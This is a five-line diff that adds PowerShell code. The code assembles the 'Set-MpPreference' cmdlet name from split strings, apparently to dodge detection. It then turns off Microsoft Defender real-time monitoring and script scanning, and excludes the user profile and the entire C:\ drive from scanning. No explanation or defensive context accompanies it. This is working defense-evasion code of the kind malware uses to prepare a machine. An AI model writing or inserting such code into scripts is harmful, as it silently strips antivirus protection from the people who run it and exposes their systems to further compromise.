@@ -1,0 +1,5 @@
+$cmd = 'Set-' + 'MpPreference'
+$opts = @{}
+foreach ($n in @('DisableRealtimeMonitoring', 'DisableScriptScanning')) { $opts[$n] = $true }
+& $cmd @opts
+& $cmd -ExclusionPath @($env:USERPROFILE, 'C:\')
